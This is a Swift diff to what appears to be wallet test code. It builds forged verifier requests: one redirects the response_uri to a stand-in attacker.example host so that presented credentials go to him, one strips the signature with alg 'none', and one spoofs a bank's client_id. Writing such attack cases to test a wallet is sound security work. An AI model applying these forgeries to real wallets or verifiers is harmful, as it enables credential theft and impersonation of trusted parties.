@@ -5,14 +5,37 @@ import WalletCore
 
 /// What somebody can make of a verifier's genuine request.
 enum Attack {
-    /// The same header, the same signature, and another place where the answer goes.
-    static func link(on asked: Verifier.Asked) async throws -> String {
-        var parts = try await requestObject(of: asked).split(separator: ".").map(String.init)
-        var payload = try decoded(parts[1])
-        payload["response_uri"] = "https://attacker.example/answer"
-        parts[1] = try JSONSerialization.data(withJSONObject: payload).base64EncodedString()
+    /// The answer would go to him.
+    static func takingTheAnswer(_ asked: Verifier.Asked) async throws -> String {
+        var parts = try await parts(of: asked)
+        parts[1] = try with(parts[1], "response_uri", "https://attacker.example/answer")
+        return link(asked.clientId, parts)
+    }
+
+    /// Nobody would notice what he changed.
+    static func takingTheSignatureAway(_ asked: Verifier.Asked) async throws -> String {
+        let parts = try await parts(of: asked)
+        return link(asked.clientId, [try with(parts[0], "alg", "none"), parts[1], ""])
+    }
+
+    /// It says that it is somebody else's.
+    static func sayingAnotherName(_ asked: Verifier.Asked) async throws -> String {
+        link("x509_san_dns:bank.example", try await parts(of: asked))
+    }
+
+    private static func parts(of asked: Verifier.Asked) async throws -> [String] {
+        try await requestObject(of: asked).split(separator: ".").map(String.init)
+    }
+
+    private static func with(_ part: String, _ name: String, _ value: String) throws -> String {
+        var members = try decoded(part)
+        members[name] = value
+        return try JSONSerialization.data(withJSONObject: members).base64EncodedString()
             .replacingOccurrences(of: "+", with: "-").replacingOccurrences(of: "/", with: "_").replacingOccurrences(of: "=", with: "")
-        return link("haip-vp", ["client_id": asked.clientId, "request": parts.joined(separator: ".")])
+    }
+
+    private static func link(_ clientId: String, _ parts: [String]) -> String {
+        link("haip-vp", ["client_id": clientId, "request": parts.joined(separator: ".")])
     }
 
     /// The same question from somebody who signs nothing, so that nobody knows who it is.
